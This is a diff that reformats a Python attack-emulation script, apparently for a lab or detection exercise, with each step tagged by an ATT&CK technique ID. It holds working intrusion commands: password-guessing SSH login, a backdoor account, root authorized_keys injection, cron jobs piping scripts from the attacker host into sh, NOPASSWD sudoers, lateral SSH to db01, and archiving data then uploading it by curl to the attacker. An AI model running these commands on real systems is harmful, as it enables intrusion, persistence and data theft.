@@ -44,7 +44,11 @@ def break_in(kali: Host, story: Story) -> None:
     with Terminal(kali.argv(["ssh", f"{MARTA.login}@{WEB}"])) as terminal:
         intruder = Intruder(terminal, story)
         with story.act(
-            "attack", "login with the guessed password", Where(ATTACKER, "web01", MARTA.login), f"ssh {MARTA.login}@{WEB}", "T1078"
+            "attack",
+            "login with the guessed password",
+            Where(ATTACKER, "web01", MARTA.login),
+            f"ssh {MARTA.login}@{WEB}",
+            "T1078",
         ):
             terminal.expect(r"password: $")
             terminal.type(MARTA.password)
@@ -65,7 +69,13 @@ def come_back(kali: Host, story: Story) -> None:
     with Terminal(kali.argv(["ssh", f"{BACKDOOR}@{WEB}"])) as terminal:
         intruder = Intruder(terminal, story)
         intruder.now_at(ATTACKER, "web01", BACKDOOR)
-        with story.act("attack", "login to the backdoor account", Where(ATTACKER, "web01", BACKDOOR), f"ssh {BACKDOOR}@{WEB}", "T1078.003"):
+        with story.act(
+            "attack",
+            "login to the backdoor account",
+            Where(ATTACKER, "web01", BACKDOOR),
+            f"ssh {BACKDOOR}@{WEB}",
+            "T1078.003",
+        ):
             terminal.expect(PROMPT)
         intruder.do("backdoor check", "T1033", "id")
         intruder.do("backdoor check", "T1053.003", "cat /var/tmp/.u.log")
@@ -102,10 +112,19 @@ def _stay(intruder: Intruder, public_key: str) -> None:
         ("T1098", f"echo '{BACKDOOR}:Upd-77-late' | chpasswd"),
         ("T1098", f"usermod -aG sudo {MARTA.login}"),
         ("T1098.004", f"mkdir -p /home/{BACKDOOR}/.ssh; echo '{public_key}' >> /home/{BACKDOOR}/.ssh/authorized_keys"),
-        ("T1098.004", f"mkdir -p /root/.ssh; echo '{public_key}' >> /root/.ssh/authorized_keys; chmod 600 /root/.ssh/authorized_keys"),
+        (
+            "T1098.004",
+            f"mkdir -p /root/.ssh; echo '{public_key}' >> /root/.ssh/authorized_keys; chmod 600 /root/.ssh/authorized_keys",
+        ),
         ("T1053.003", f"echo '* * * * * root curl -fsS http://{ATTACKER}/u.sh | sh' > /etc/cron.d/{BACKDOOR}"),
-        ("T1053.003", f"(crontab -l 2>/dev/null; echo '*/2 * * * * curl -fsS http://{ATTACKER}/m.sh | sh >/dev/null') | crontab -"),
-        ("T1548.003", f"echo '{BACKDOOR} ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/{BACKDOOR}; chmod 440 /etc/sudoers.d/{BACKDOOR}"),
+        (
+            "T1053.003",
+            f"(crontab -l 2>/dev/null; echo '*/2 * * * * curl -fsS http://{ATTACKER}/m.sh | sh >/dev/null') | crontab -",
+        ),
+        (
+            "T1548.003",
+            f"echo '{BACKDOOR} ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/{BACKDOOR}; chmod 440 /etc/sudoers.d/{BACKDOOR}",
+        ),
         ("T1105", f"wget -q -O /dev/shm/.m http://{ATTACKER}/m.sh; chmod +x /dev/shm/.m; /dev/shm/.m"),
     ):
         intruder.do("persistence", technique, line)
@@ -133,9 +152,17 @@ def _look_for_neighbours(intruder: Intruder) -> None:
 
 
 def _go_to_db01(intruder: Intruder) -> None:
-    intruder.do("lateral movement to db01", "T1021.004", f"ssh -i /dev/shm/.k -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR carol@{DB}")
+    intruder.do(
+        "lateral movement to db01",
+        "T1021.004",
+        f"ssh -i /dev/shm/.k -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR carol@{DB}",
+    )
     intruder.now_at(WEB, "db01", "carol")
-    for technique, line in (("T1033", "id; hostname"), ("T1069.001", "sudo -n -l"), ("T1083", "ls -la /srv /srv/data 2>&1")):
+    for technique, line in (
+        ("T1033", "id; hostname"),
+        ("T1069.001", "sudo -n -l"),
+        ("T1083", "ls -la /srv /srv/data 2>&1"),
+    ):
         intruder.do("discovery on db01", technique, line)
     intruder.do("collection", "T1560.001", "sudo tar czf /tmp/.c.tgz /srv/data", timeout=120)
     intruder.do("collection", "T1074.001", "ls -l /tmp/.c.tgz")
@@ -191,10 +218,19 @@ def _go_to_trap01(intruder: Intruder) -> None:
 def _steal(intruder: Intruder, kali: Host, story: Story) -> None:
     address = f"http://{WEB}/c.tgz"
     with story.act(
-        "attack", "exfiltration over the shop's web server", Where(ATTACKER, "web01"), f"wget -q -O /dev/null {address}", "T1048.003"
+        "attack",
+        "exfiltration over the shop's web server",
+        Where(ATTACKER, "web01"),
+        f"wget -q -O /dev/null {address}",
+        "T1048.003",
     ):
         kali.run(["wget", "-q", "-O", "/dev/null", address], check=False)
-    intruder.do("exfiltration by upload", "T1048.003", f"curl -fsS -T /srv/www/shop/c.tgz http://{ATTACKER}/in/c.tgz", timeout=120)
+    intruder.do(
+        "exfiltration by upload",
+        "T1048.003",
+        f"curl -fsS -T /srv/www/shop/c.tgz http://{ATTACKER}/in/c.tgz",
+        timeout=120,
+    )
 
 
 def _wipe(intruder: Intruder) -> None:
